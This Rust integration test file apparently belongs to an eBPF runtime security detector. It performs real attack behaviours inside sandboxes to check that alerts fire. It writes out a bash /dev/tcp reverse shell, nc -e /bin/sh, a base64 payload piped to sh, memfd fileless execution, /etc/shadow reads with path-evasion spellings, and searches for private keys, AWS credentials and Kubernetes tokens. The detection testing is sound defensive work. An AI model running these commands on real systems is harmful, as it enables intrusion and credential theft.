//! The default rules on execution, credential access and discovery (rules 1-22 of
//! `rules/kestrel_rules.yaml`), each raised by the real behaviour under the real
//! `kestrel watch --format json` (root, eBPF sensor, built-in rules), on the host and in podman
//! containers of the test image.
//!
//! Each case performs one behaviour and says what its alert must say; [`check`] waits for all of
//! them and reports every missing or wrong alert at once. Behaviours carry markers of their own
//! (temp dir names, words on the command line, container ids, pids), so other tests and other
//! activity on the machine cannot stand in for them. Programs the machine does not have (nc,
//! xmrig, nmap) are copies of a present program under that name: the rules match names and paths,
//! and the exec, file access or connection the rule is about really happens. Traffic to
//! non-loopback addresses stays inside network namespaces created for the test.

mod common;

use std::path::Path;
use std::process::{Command, Stdio};

use common::*;

/// One behaviour and what its alert must say (`output_fields`, or `priority`/`tags`), or, for
/// a normal workload's look-alike of the behaviour, that the rule stays silent on it.
struct Case {
    rule: &'static str,
    what: &'static str,
    wants: Vec<(&'static str, Want)>,
    fires: bool,
}

/// The behaviour raises `rule` with `wants`.
fn case(rule: &'static str, what: &'static str, wants: Vec<(&'static str, Want)>) -> Case {
    Case {
        rule,
        what,
        wants,
        fires: true,
    }
}

/// A normal workload: no alert of `rule` matches `wants` (which identify its processes).
fn quiet(rule: &'static str, what: &'static str, wants: Vec<(&'static str, Want)>) -> Case {
    Case {
        rule,
        what,
        wants,
        fires: false,
    }
}

/// Waits for every firing case's alert and checks that no quiet case has one; fails listing
/// every case that went wrong (with the alerts of its rule, to show which field differs). Call it
/// after a barrier behind every behaviour: that is what makes the silence of quiet cases
/// meaningful.
fn check(w: &mut Watch, cases: &[Case]) {
    let mut wrong = Vec::new();
    for c in cases.iter().filter(|c| c.fires) {
        if w.find_alert(c.rule, |a| fields_match(a, &c.wants), ALERT_TIMEOUT)
            .is_none()
        {
            wrong.push(format!(
                "{:?} ({}): no alert with {:?}; alerts of the rule: {:#?}",
                c.rule,
                c.what,
                c.wants,
                w.seen_of(c.rule)
            ));
        }
    }
    w.seen();
    for c in cases.iter().filter(|c| !c.fires) {
        let bad: Vec<&serde_json::Value> = w
            .seen_of(c.rule)
            .into_iter()
            .filter(|a| fields_match(a, &c.wants))
            .collect();
        if !bad.is_empty() {
            wrong.push(format!(
                "{:?} ({}): a normal workload raised it: {bad:#?}",
                c.rule, c.what
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {} cases went wrong:\n{}\nlog:\n{}",
        wrong.len(),
        cases.len(),
        wrong.join("\n"),
        w.log_text()
    );
}

/// Runs `program args` on the host; returns its pid. Its exit status is not the point (some
/// stand-ins reject the options they are given), the exec is.
fn spawn_wait(program: impl AsRef<std::ffi::OsStr>, args: &[&str]) -> u32 {
    spawn_status(program, args).0
}

fn spawn_status(
    program: impl AsRef<std::ffi::OsStr>,
    args: &[&str],
) -> (u32, std::process::ExitStatus) {
    let mut child = Command::new(program)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    (pid, child.wait().unwrap())
}

fn host() -> (&'static str, Want) {
    ("container.id", is("host"))
}

fn path(p: &Path) -> &str {
    p.to_str().unwrap()
}

#[test]
fn host_behaviours() {
    let mut w = Watch::start(&[]);
    let dir = tempfile::Builder::new()
        .prefix("kt-detect")
        .tempdir()
        .unwrap();
    let d = dir.path();
    let mut cases = Vec::new();

    // Execution from /dev/shm.
    let shm = tempfile::Builder::new()
        .prefix("kt-shm")
        .tempdir_in("/dev/shm")
        .unwrap();
    let prog = renamed_copy("/bin/true", shm.path(), "shmprog");
    let pid = spawn_wait(&prog, &[]);
    cases.push(case(
        "Execution from /dev/shm",
        "a program run from /dev/shm",
        vec![
            ("proc.pid", is(pid)),
            ("proc.exepath", is(path(&prog))),
            ("proc.name", is("shmprog")),
            ("priority", is("Warning")),
            host(),
        ],
    ));

    // Shell spawned by web server: a process named gunicorn (Python under that name, which is
    // what gunicorn is) runs a shell, as a command injection in the app would.
    let web = renamed_copy("/usr/bin/python3.11", d, "gunicorn");
    let m = unique("webshell");
    spawn_wait(
        &web,
        &[
            "-c",
            &format!("import subprocess; subprocess.run(['/bin/sh', '-c', 'id; echo {m}'])"),
        ],
    );
    cases.push(case(
        "Shell spawned by web server",
        "gunicorn runs sh -c",
        vec![
            ("proc.name", is("sh")),
            ("proc.pname", is("gunicorn")),
            ("proc.cmdline", has(&m)),
            ("priority", is("Warning")),
            host(),
        ],
    ));

    // Reverse shell connection: bash's /dev/tcp to an address that is not loopback (it exists
    // only in our network namespace).
    let ns = NetNs::new(&["10.77.0.1/32"]);
    let _listen = ns.listen(&["10.77.0.1:9001", "10.77.0.1:3333"]);
    let m = unique("revshell");
    let out = ns
        .command(&[
            "bash",
            "-c",
            &format!("bash -i >& /dev/tcp/10.77.0.1/9001 0>&1 # {m}"),
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    // The listener hangs up at once, so the interactive bash dies of SIGPIPE writing its
    // prompt: the connection, which is what the rule is about, did happen.
    assert!(
        out.status.success() || out.status.code() == Some(141),
        "{out:?}"
    );
    cases.push(case(
        "Reverse shell connection",
        "bash -i >& /dev/tcp/... 0>&1",
        vec![
            ("proc.name", is("bash")),
            ("proc.cmdline", has(&m)),
            ("fd.name", has("10.77.0.1:9001")),
            ("priority", is("Critical")),
            host(),
        ],
    ));

    // Connection to mining pool port: a TCP connection to port 3333 off loopback.
    let m = unique("poolport");
    let out = ns
        .command(&[
            "/usr/bin/python3",
            "-c",
            &format!("import socket  # {m}\nsocket.create_connection(('10.77.0.1', 3333)).close()"),
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    cases.push(case(
        "Connection to mining pool port",
        "python connects to 10.77.0.1:3333",
        vec![
            ("proc.cmdline", has(&m)),
            ("fd.name", has("10.77.0.1:3333")),
            ("priority", is("Warning")),
            host(),
        ],
    ));

    // The same with a non-blocking connect (EINPROGRESS), as miners built on libuv do.
    let m = unique("poolnb");
    let out = ns
        .command(&[
            "/usr/bin/python3",
            "-c",
            &format!(
                "import socket, select  # {m}
s = socket.socket(); s.setblocking(False)
assert s.connect_ex(('10.77.0.1', 3333)) == 115  # EINPROGRESS
select.select([], [s], [], 10)"
            ),
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    cases.push(case(
        "Connection to mining pool port",
        "a non-blocking connect to 10.77.0.1:3333",
        vec![
            ("proc.cmdline", has(&m)),
            ("fd.name", has("10.77.0.1:3333")),
            host(),
        ],
    ));

    // DNS lookup of mining pool: a real query and answer, against a DNS server in the namespace.
    let _dns = ns.dns_server();
    let name = format!("{}.supportxmr.com", unique("dns"));
    let out = ns
        .command(&[
            "/usr/bin/python3",
            "-c",
            &format!(
                "import socket, struct
q = struct.pack('>HHHHHH', 0x4b54, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in '{name}'.split('.')) + b'\\x00\\x00\\x01\\x00\\x01'
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(10); c.sendto(q, ('127.0.0.1', 53))
c.recvfrom(512)"
            ),
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    cases.push(case(
        "DNS lookup of mining pool",
        "a DNS query for a supportxmr.com name",
        vec![
            ("dns.query", is(serde_json::json!([name]))),
            ("priority", is("Critical")),
            host(),
        ],
    ));

    // Interactive shell spawned by network tool: netcat's -e runs a shell (nc here is Python
    // doing what nc -e does: start sh), and Python's pty one-liner's `sh -i`.
    let nc_dir = d.join("nc-bin");
    std::fs::create_dir(&nc_dir).unwrap();
    let ncpy = renamed_copy("/usr/bin/python3.11", &nc_dir, "nc");
    let m = unique("ncshell");
    spawn_wait(
        &ncpy,
        &[
            "-c",
            &format!("import subprocess; subprocess.run(['/bin/sh', '-c', 'echo {m}'])"),
        ],
    );
    cases.push(case(
        "Interactive shell spawned by network tool",
        "nc starts sh",
        vec![
            ("proc.name", is("sh")),
            ("proc.pname", is("nc")),
            ("proc.cmdline", has(&m)),
            ("priority", is("Critical")),
            host(),
        ],
    ));
    let m = unique("pyshell");
    spawn_wait(
        "/usr/bin/python3",
        &[
            "-c",
            &format!(
                "import subprocess  # {m}\nsubprocess.run(['/bin/sh', '-i'], stdin=subprocess.DEVNULL)"
            ),
        ],
    );
    cases.push(case(
        "Interactive shell spawned by network tool",
        "python3 starts sh -i",
        vec![
            ("proc.name", is("sh")),
            ("proc.cmdline", is("sh -i")),
            ("proc.pname", is("python3")),
            ("proc.pcmdline", has(&m)),
            host(),
        ],
    ));

    // The classic Python TTY upgrade of a reverse shell: pty.spawn("/bin/sh"), a bare shell
    // on a new terminal (told to exit through the terminal).
    let m = unique("ptyshell");
    let mut child = Command::new("/usr/bin/python3")
        .args(["-c", &format!("import pty  # {m}\npty.spawn('/bin/sh')")])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        child.stdin.take().unwrap().write_all(b"exit\n").unwrap();
    }
    assert!(child.wait().unwrap().success());
    cases.push(case(
        "Interactive shell spawned by network tool",
        "python3 pty.spawn('/bin/sh')",
        vec![
            ("proc.name", is("sh")),
            ("proc.cmdline", is("sh")),
            ("proc.pname", is("python3")),
            ("proc.pcmdline", has(&m)),
            host(),
        ],
    ));

    // Netcat remote code execution: nc given -e and --sh-exec.
    let nc_true = d.join("nc-true");
    std::fs::create_dir(&nc_true).unwrap();
    let nc = renamed_copy("/bin/true", &nc_true, "nc");
    let m = unique("nce");
    let pid = spawn_wait(&nc, &["-e", "/bin/sh", "127.0.0.1", "9", &m]);
    cases.push(case(
        "Netcat remote code execution",
        "nc -e /bin/sh",
        vec![
            ("proc.pid", is(pid)),
            ("proc.cmdline", has(&m)),
            ("priority", is("Warning")),
            host(),
        ],
    ));
    let ncat = renamed_copy("/bin/true", &nc_true, "ncat");
    let m = unique("ncat");
    let pid = spawn_wait(&ncat, &["--sh-exec", "id", "127.0.0.1", "9", &m]);
    cases.push(case(
        "Netcat remote code execution",
        "ncat --sh-exec",
        vec![("proc.pid", is(pid)), ("proc.name", is("ncat")), host()],
    ));

    // Not netcat remote code execution: a health check whose host name holds "-e" and "-c".
    let m = unique("ncz");
    let pid = spawn_wait(
        &nc,
        &["-z", "-w", "1", &format!("db-east-cache.{m}"), "5432"],
    );
    cases.push(quiet(
        "Netcat remote code execution",
        "nc -z db-east-cache... (a health check)",
        vec![("proc.pid", is(pid))],
    ));

    // Decoded payload piped to shell.
    let m = unique("payload");
    let b64 = {
        let out = Command::new("base64")
            .arg("-w0")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                use std::io::Write;
                c.stdin
                    .take()
                    .unwrap()
                    .write_all(format!("echo {m}\n").as_bytes())?;
                c.wait_with_output()
            })
            .unwrap();
        String::from_utf8(out.stdout).unwrap()
    };
    let pid = spawn_wait(
        "/bin/bash",
        &["-c", &format!("echo {b64} | base64 -d | sh")],
    );
    cases.push(case(
        "Decoded payload piped to shell",
        "echo B64 | base64 -d | sh",
        vec![
            ("proc.pid", is(pid)),
            ("proc.cmdline", has(&b64)),
            ("priority", is("Warning")),
            host(),
        ],
    ));

    // Fileless execution via memfd_create: /bin/true copied into a memfd and executed from it.
    let m = unique("memfd");
    spawn_wait(
        "/usr/bin/python3",
        &[
            "-c",
            &format!(
                "import os
fd = os.memfd_create('ktmemfd', 0)
os.write(fd, open('/bin/true', 'rb').read())
os.execv('/proc/self/fd/%d' % fd, ['ktmemfd', '{m}'])"
            ),
        ],
    );
    cases.push(case(
        "Fileless execution via memfd_create",
        "exec of a memfd",
        vec![
            ("proc.cmdline", has(&m)),
            ("priority", is("Critical")),
            host(),
        ],
    ));

    // Search private keys or passwords, and Find AWS credentials: grep and find over a tree
    // of our own.
    let tree = d.join(unique("keys"));
    std::fs::create_dir_all(tree.join(".ssh")).unwrap();
    std::fs::write(
        tree.join(".ssh/id_rsa"),
        "-----BEGIN OPENSSH PRIVATE KEY-----\n",
    )
    .unwrap();
    let t = path(&tree);
    let pid = spawn_wait("grep", &["-rl", "BEGIN OPENSSH PRIVATE", t]);
    cases.push(case(
        "Search private keys or passwords",
        "grep for a private key header",
        vec![
            ("proc.pid", is(pid)),
            ("proc.name", is("grep")),
            ("proc.cmdline", has(t)),
            ("priority", is("Warning")),
            host(),
        ],
    ));
    let pid = spawn_wait("find", &[t, "-name", "id_rsa"]);
    cases.push(case(
        "Search private keys or passwords",
        "find -name id_rsa",
        vec![("proc.pid", is(pid)), ("proc.name", is("find")), host()],
    ));
    let pid = spawn_wait("grep", &["-r", "aws_secret_access_key", t]);
    cases.push(case(
        "Find AWS credentials",
        "grep for aws_secret_access_key",
        vec![
            ("proc.pid", is(pid)),
            ("proc.cmdline", has(t)),
            ("priority", is("Warning")),
            host(),
        ],
    ));
    let pid = spawn_wait("find", &[t, "-path", "*.aws/credentials"]);
    cases.push(case(
        "Find AWS credentials",
        "find for .aws/credentials",
        vec![("proc.pid", is(pid)), ("proc.name", is("find")), host()],
    ));

    // Crypto miner launched: a program named xmrig, and any program given a stratum pool URL.
    let xmrig = renamed_copy("/bin/true", d, "xmrig");
    let m = unique("xmrig");
    let pid = spawn_wait(&xmrig, &["--donate-level", "1", &m]);
    cases.push(case(
        "Crypto miner launched",
        "xmrig",
        vec![
            ("proc.pid", is(pid)),
            ("proc.name", is("xmrig")),
            ("priority", is("Critical")),
            host(),
        ],
    ));
    let m = unique("stratum");
    let pid = spawn_wait(
        "/bin/true",
        &["-o", &format!("stratum+tcp://{m}.example:3333"), "-u", "x"],
    );
    cases.push(case(
        "Crypto miner launched",
        "a stratum URL on the command line",
        vec![("proc.pid", is(pid)), ("proc.cmdline", has(&m)), host()],
    ));

    // A miner under an innocent name, told its pool and wallet.
    let disguised = renamed_copy("/bin/true", d, "kworkerds");
    let m = unique("wallet");
    let pid = spawn_wait(&disguised, &["-o", "xmr.pool.example:443", "-u", &m, "-k"]);
    cases.push(case(
        "Crypto miner launched",
        "a renamed miner with -o POOL -u WALLET",
        vec![
            ("proc.pid", is(pid)),
            ("proc.name", is("kworkerds")),
            host(),
        ],
    ));

    // Read sensitive file untrusted, /etc/shadow read (read only):
    // - by its plain path;
    // - through `.` and `..`: fd.name is the cleaned path, as in Falco, so the spelling does not
    //   evade the rule (fd.nameraw keeps what the process passed);
    // - through a path that does not start with /etc/ at all: the kernel's open filter resolves
    //   non-canonical spellings to the opened file before matching its prefixes;
    // - by a relative path after a chdir the sensor never saw: the kernel matches and reports
    //   the opened file's absolute path, so neither the open filter nor the rule depends on the
    //   process's working directory at exec.
    let shadow_reads: [(&str, &[&str], &'static str); 4] = [
        ("cat", &["/etc/shadow"], "cat /etc/shadow"),
        ("cat", &["/etc/./ssh/../shadow"], "cat /etc/./ssh/../shadow"),
        ("cat", &["/tmp/../etc//shadow"], "cat /tmp/../etc//shadow"),
        (
            "python3",
            &["-c", "import os; os.chdir('/etc'); open('shadow').read()"],
            "chdir('/etc'); open('shadow')",
        ),
    ];
    for (program, args, what) in shadow_reads {
        let (pid, status) = spawn_status(program, args);
        assert!(status.success(), "{what}: {status}");
        cases.push(case(
            "Read sensitive file untrusted",
            what,
            vec![
                ("proc.pid", is(pid)),
                ("fd.name", is("/etc/shadow")),
                ("priority", is("Warning")),
                host(),
            ],
        ));
    }

    // Normal workloads that look like the behaviours above.
    // A build: gcc -o DIR/threadpool (the compiler's programs all carry -o and "pool").
    let build = d.join(unique("build"));
    std::fs::create_dir(&build).unwrap();
    std::fs::write(build.join("threadpool.c"), "int main(void) { return 0; }\n").unwrap();
    let out = Command::new("gcc")
        .arg("-o")
        .arg(build.join("threadpool"))
        .arg(build.join("threadpool.c"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    cases.push(quiet(
        "Crypto miner launched",
        "gcc -o threadpool threadpool.c",
        vec![("proc.cmdline", has(path(&build)))],
    ));
    // A health check with bash's /dev/tcp on loopback.
    let local = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = local.local_addr().unwrap().port();
    let pid = spawn_wait("/bin/bash", &["-c", &format!("</dev/tcp/127.0.0.1/{port}")]);
    cases.push(quiet(
        "Reverse shell connection",
        "bash </dev/tcp/127.0.0.1/PORT",
        vec![("proc.pid", is(pid))],
    ));
    // Decoding base64 into a file, not into a shell.
    let pid = spawn_wait(
        "/bin/bash",
        &[
            "-c",
            &format!("echo aGVsbG8K | base64 -d > {}/hello", path(d)),
        ],
    );
    cases.push(quiet(
        "Decoded payload piped to shell",
        "base64 -d > file",
        vec![("proc.pid", is(pid))],
    ));
    // runuser (util-linux, what service scripts use to drop to a service account) reads the PAM
    // configuration: its job.
    let pid = spawn_wait("runuser", &["-u", "nobody", "--", "/bin/true"]);
    cases.push(quiet(
        "Read sensitive file untrusted",
        "runuser -u nobody -- true",
        vec![("proc.pid", is(pid))],
    ));
    // passwd reads /etc/shadow to report an account's status: its job.
    let pid = spawn_wait("passwd", &["-S", "root"]);
    cases.push(quiet(
        "Read sensitive file untrusted",
        "passwd -S root",
        vec![("proc.pid", is(pid))],
    ));

    w.barrier_host();
    check(&mut w, &cases);
}

#[test]
fn container_behaviours() {
    let mut w = Watch::start(&[]);
    let dir = tempfile::Builder::new()
        .prefix("kt-detect")
        .tempdir()
        .unwrap();
    let tools = dir.path().join("tools");
    std::fs::create_dir(&tools).unwrap();
    renamed_copy("/bin/true", &tools, "nmap");
    // A service account volume laid out as kubelet writes it: the files live in a timestamped
    // directory, `..data` points at it, and `token` is a symlink through `..data`.
    let sa = dir.path().join("serviceaccount");
    let data = sa.join("..2026_11_27_07_00_00.000000001");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("token"), "eyJhbGciOiJSUzI1NiJ9.test.token\n").unwrap();
    std::os::unix::fs::symlink("..2026_11_27_07_00_00.000000001", sa.join("..data")).unwrap();
    std::os::unix::fs::symlink("..data/token", sa.join("token")).unwrap();
    let ns = NetNs::new(&["10.96.0.1/32", "10.77.0.1/32", "169.254.169.254/32"]);
    let _listen = ns.listen(&[
        "10.96.0.1:443",
        "10.77.0.1:6443",
        "10.77.0.1:9001",
        "169.254.169.254:80",
    ]);
    let _dns = ns.dns_server();
    let c = Container::start(
        "detect",
        &[
            &ns.podman_arg(),
            "--dns=127.0.0.1",
            // /dev/shm as a pod's memory-backed emptyDir gives it: executable (podman's own
            // is noexec).
            "--tmpfs=/dev/shm:rw,exec,size=65536k",
            "-v",
            &format!("{}:/opt/kt-tools:ro", tools.display()),
            "-v",
            &format!(
                "{}:/var/run/secrets/kubernetes.io/serviceaccount:ro",
                sa.display()
            ),
        ],
    );
    let ctr = || ("container.id", is(c.short_id()));
    let ctr_name = || ("container.name", is(c.name.as_str()));
    let mut cases = Vec::new();

    // Terminal shell in container: podman exec -t, as kubectl exec -it.
    let m = unique("tty");
    let out = c.exec_with(&["-t"], &["bash", "-c", &format!("echo {m}")]);
    assert!(out.status.success(), "{out:?}");
    cases.push(case(
        "Terminal shell in container",
        "podman exec -t bash",
        vec![
            ("proc.name", is("bash")),
            ("proc.cmdline", has(&m)),
            ("priority", is("Notice")),
            ctr(),
            ctr_name(),
        ],
    ));

    // Drop and execute new binary in container: a program written into the container's
    // writable layer, then run.
    let m = unique("drift");
    c.sh(&format!("cp /bin/true /tmp/dropped && /tmp/dropped {m}"));
    cases.push(case(
        "Drop and execute new binary in container",
        "cp /bin/true /tmp/dropped; run it",
        vec![
            ("proc.exepath", is("/tmp/dropped")),
            ("proc.cmdline", has(&m)),
            ("priority", is("Critical")),
            ctr(),
            ctr_name(),
        ],
    ));

    // Execution from /dev/shm and fileless execution, inside the container.
    let m = unique("ctrshm");
    c.sh(&format!(
        "cp /bin/true /dev/shm/ktshm && /dev/shm/ktshm {m}"
    ));
    cases.push(case(
        "Execution from /dev/shm",
        "a program run from the container's /dev/shm",
        vec![
            ("proc.exepath", is("/dev/shm/ktshm")),
            ("proc.cmdline", has(&m)),
            ctr(),
        ],
    ));
    let m = unique("ctrmemfd");
    c.sh(&format!(
        "python3 -c \"import os\nfd = os.memfd_create('x', 0)\nos.write(fd, open('/bin/true', 'rb').read())\nos.execv('/proc/self/fd/%d' % fd, ['x', '{m}'])\""
    ));
    cases.push(case(
        "Fileless execution via memfd_create",
        "exec of a memfd in the container",
        vec![("proc.cmdline", has(&m)), ctr()],
    ));

    // Reverse shell connection from the container (to a listener in its network namespace).
    let m = unique("ctrrev");
    let out = c.exec(&[
        "bash",
        "-c",
        &format!("bash -i >& /dev/tcp/10.77.0.1/9001 0>&1 # {m}"),
    ]);
    assert!(
        out.status.success() || out.status.code() == Some(141),
        "{out:?}"
    );
    cases.push(case(
        "Reverse shell connection",
        "bash -i >& /dev/tcp/... in the container",
        vec![
            ("proc.name", is("bash")),
            ("proc.cmdline", has(&m)),
            ("fd.name", has("10.77.0.1:9001")),
            ctr(),
            ctr_name(),
        ],
    ));

    // Launch package management process in container: the image's real pip (the app's venv)
    // and dpkg.
    c.sh("/opt/app/venv/bin/pip --version");
    cases.push(case(
        "Launch package management process in container",
        "pip",
        vec![
            ("proc.name", is("pip")),
            ("proc.cmdline", has("--version")),
            ctr(),
        ],
    ));
    c.sh("dpkg --print-architecture");
    cases.push(case(
        "Launch package management process in container",
        "dpkg",
        vec![
            ("proc.name", is("dpkg")),
            ("proc.cmdline", is("dpkg --print-architecture")),
            ("priority", is("Error")),
            ctr(),
            ctr_name(),
        ],
    ));

    // Launch suspicious network tool in container (nmap from a read-only host mount, so not
    // container drift).
    let m = unique("nmap");
    c.sh(&format!("/opt/kt-tools/nmap -sS {m}"));
    cases.push(case(
        "Launch suspicious network tool in container",
        "nmap",
        vec![
            ("proc.name", is("nmap")),
            ("proc.cmdline", has(&m)),
            ("priority", is("Notice")),
            ctr(),
        ],
    ));

    // Read sensitive file untrusted, in a container.
    c.sh("cat /etc/shadow > /dev/null");
    cases.push(case(
        "Read sensitive file untrusted",
        "cat /etc/shadow in a container",
        vec![
            ("proc.name", is("cat")),
            ("fd.name", is("/etc/shadow")),
            ctr(),
        ],
    ));

    // Read cloud credential file (the container's writable layer, discarded with it).
    c.sh("mkdir -p /root/.aws && printf '[default]\\naws_access_key_id = AKIAEXAMPLE\\n' > /root/.aws/credentials");
    c.sh("cat /root/.aws/credentials > /dev/null");
    cases.push(case(
        "Read cloud credential file",
        "cat ~/.aws/credentials",
        vec![
            ("proc.name", is("cat")),
            ("fd.name", is("/root/.aws/credentials")),
            ("priority", is("Warning")),
            ctr(),
        ],
    ));

    // Read service account token by interactive tool.
    c.sh("cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null");
    cases.push(case(
        "Read service account token by interactive tool",
        "cat the service account token",
        vec![
            ("proc.name", is("cat")),
            (
                "fd.name",
                has("/secrets/kubernetes.io/serviceaccount/token"),
            ),
            ("priority", is("Warning")),
            ctr(),
        ],
    ));

    // The same token where kubelet keeps it on the node (a projected volume under
    // /var/lib/kubelet/pods), as a container with that host path mounted sees it.
    let projected = "/var/lib/kubelet/pods/2f0c3a7e-5b1d-4c8e-9a6f-0d1e2f3a4b5c/volumes/kubernetes.io~projected/kube-api-access-x7k2p";
    c.sh(&format!(
        "mkdir -p {projected} && echo eyJ.test.token > {projected}/token"
    ));
    c.sh(&format!("cat {projected}/token > /dev/null"));
    cases.push(case(
        "Read service account token by interactive tool",
        "cat a projected token under /var/lib/kubelet/pods",
        vec![
            ("proc.name", is("cat")),
            ("fd.name", is(format!("{projected}/token"))),
            ctr(),
        ],
    ));

    // Read kubelet or cluster credentials.
    c.sh("mkdir -p /etc/kubernetes && echo 'apiVersion: v1' > /etc/kubernetes/admin.conf");
    c.sh("cat /etc/kubernetes/admin.conf > /dev/null");
    cases.push(case(
        "Read kubelet or cluster credentials",
        "cat /etc/kubernetes/admin.conf",
        vec![
            ("proc.name", is("cat")),
            ("fd.name", is("/etc/kubernetes/admin.conf")),
            ("priority", is("Warning")),
            ctr(),
        ],
    ));

    c.sh("mkdir -p /var/lib/kubelet/pki && echo cert > /var/lib/kubelet/pki/kubelet-client-current.pem");
    c.sh("cat /var/lib/kubelet/pki/kubelet-client-current.pem > /dev/null");
    cases.push(case(
        "Read kubelet or cluster credentials",
        "cat kubelet's client certificate and key",
        vec![
            ("proc.name", is("cat")),
            (
                "fd.name",
                is("/var/lib/kubelet/pki/kubelet-client-current.pem"),
            ),
            ctr(),
        ],
    ));

    // DNS lookup of mining pool, through the C library's resolver (getent) and the container's
    // resolv.conf, answered by a DNS server inside the namespace.
    let name = format!("{}.pool.minexmr.com", unique("getent"));
    let out = c.exec(&["getent", "hosts", &name]);
    assert!(out.status.success(), "{out:?}");
    cases.push(case(
        "DNS lookup of mining pool",
        "getent hosts NAME.pool.minexmr.com in a container",
        vec![
            ("proc.name", is("getent")),
            ("dns.query", is(serde_json::json!([name]))),
            ctr(),
            ctr_name(),
        ],
    ));

    // Contact K8S API server from container: the service address, and port 6443.
    let m = unique("apiserver");
    c.sh(&format!(
        "python3 -c \"import socket  # {m}\nsocket.create_connection(('10.96.0.1', 443)).close()\""
    ));
    cases.push(case(
        "Contact K8S API server from container",
        "connect to 10.96.0.1:443",
        vec![
            ("proc.cmdline", has(&m)),
            ("fd.name", has("10.96.0.1:443")),
            ("priority", is("Notice")),
            ctr(),
            ctr_name(),
        ],
    ));
    // Go's net package (client-go, kubectl) connects non-blocking: EINPROGRESS.
    let m = unique("apinb");
    c.sh(&format!(
        "python3 -c \"import socket, select  # {m}\ns = socket.socket(); s.setblocking(False)\nassert s.connect_ex(('10.96.0.1', 443)) == 115\nselect.select([], [s], [], 10)\""
    ));
    cases.push(case(
        "Contact K8S API server from container",
        "a non-blocking connect to 10.96.0.1:443",
        vec![
            ("proc.cmdline", has(&m)),
            ("fd.name", has("10.96.0.1:443")),
            ctr(),
        ],
    ));
    let m = unique("apiport");
    c.sh(&format!(
        "python3 -c \"import socket  # {m}\nsocket.create_connection(('10.77.0.1', 6443)).close()\""
    ));
    cases.push(case(
        "Contact K8S API server from container",
        "connect to port 6443",
        vec![
            ("proc.cmdline", has(&m)),
            ("fd.name", has("10.77.0.1:6443")),
            ctr(),
        ],
    ));

    // Contact cloud metadata service from container.
    let m = unique("imds");
    c.sh(&format!(
        "python3 -c \"import socket  # {m}\nsocket.create_connection(('169.254.169.254', 80)).close()\""
    ));
    cases.push(case(
        "Contact cloud metadata service from container",
        "connect to 169.254.169.254:80",
        vec![
            ("proc.cmdline", has(&m)),
            ("fd.name", has("169.254.169.254:80")),
            ("priority", is("Notice")),
            ctr(),
            ctr_name(),
        ],
    ));

    // Normal workloads that look like the behaviours above.
    let m = unique("notty");
    c.exec(&["bash", "-c", &format!("echo {m}")]);
    cases.push(quiet(
        "Terminal shell in container",
        "podman exec without a terminal",
        vec![("proc.cmdline", has(&m))],
    ));
    let m = unique("imagebin");
    c.sh(&format!("/bin/true {m}"));
    cases.push(quiet(
        "Drop and execute new binary in container",
        "a program of the image",
        vec![("proc.cmdline", has(&m))],
    ));
    let m = unique("apptoken");
    c.sh(&format!(
        "python3 -c \"open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()  # {m}\""
    ));
    cases.push(quiet(
        "Read service account token by interactive tool",
        "the application (python3) reads its token",
        vec![("proc.cmdline", has(&m))],
    ));
    let m = unique("awssdk");
    c.sh(&format!(
        "python3 -c \"open('/root/.aws/credentials').read()  # {m}\""
    ));
    cases.push(quiet(
        "Read cloud credential file",
        "an SDK (python3) reads ~/.aws/credentials",
        vec![("proc.cmdline", has(&m))],
    ));
    let m = unique("web443");
    c.sh(&format!(
        "python3 -c \"import socket  # {m}\nsocket.create_connection(('10.77.0.1', 9001)).close()\""
    ));
    cases.push(quiet(
        "Contact K8S API server from container",
        "a connection to another service",
        vec![("proc.cmdline", has(&m))],
    ));

    w.barrier_in(&c);
    check(&mut w, &cases);
}

/// Behaviours inside the test environment's Pod (`tests/env/pod.yaml`, kubelet-shaped cgroups):
/// the alert names the Pod and its namespace, as `kubectl exec` into a workload would show.
#[test]
fn pod_behaviours() {
    let mut w = Watch::start(&[]);
    let pod = kestrel_testenv::TestPod::start(&image()).expect("the test Pod");
    let python = pod.container("python").unwrap();
    let exec = |podman_args: &[&str], args: &[&str]| {
        let out = kestrel_testenv::podman()
            .arg("exec")
            .args(podman_args)
            .arg(&python.podman_name)
            .args(args)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
    };
    let short = &python.id.as_str()[..12];
    let in_pod = || {
        vec![
            ("container.id", is(short)),
            ("k8s.pod.name", is(pod.name())),
            ("k8s.ns.name", is(pod.namespace())),
        ]
    };
    let mut cases = Vec::new();

    // kubectl exec -it shop-web -c python -- bash
    let m = unique("podtty");
    exec(&["-t"], &["bash", "-c", &format!("echo {m}")]);
    let mut wants = in_pod();
    wants.push(("proc.cmdline", has(&m)));
    wants.push(("proc.name", is("bash")));
    cases.push(case(
        "Terminal shell in container",
        "a terminal shell in the Pod",
        wants,
    ));

    // The Pod talks to an API server port (a listener of its own on the Pod's loopback: the
    // Pod has no other network).
    let m = unique("podapi");
    exec(
        &[],
        &[
            "/usr/bin/python3",
            "-c",
            &format!(
                "import socket  # {m}
s = socket.socket(); s.bind(('127.0.0.1', 6443)); s.listen(1)
socket.create_connection(('127.0.0.1', 6443)).close()"
            ),
        ],
    );
    let mut wants = in_pod();
    wants.push(("proc.cmdline", has(&m)));
    wants.push(("fd.name", has("127.0.0.1:6443")));
    cases.push(case(
        "Contact K8S API server from container",
        "a connection to port 6443 from the Pod",
        wants,
    ));

    w.barrier_in_container(short, |word| exec(&[], &["/bin/true", word]));
    check(&mut w, &cases);
}
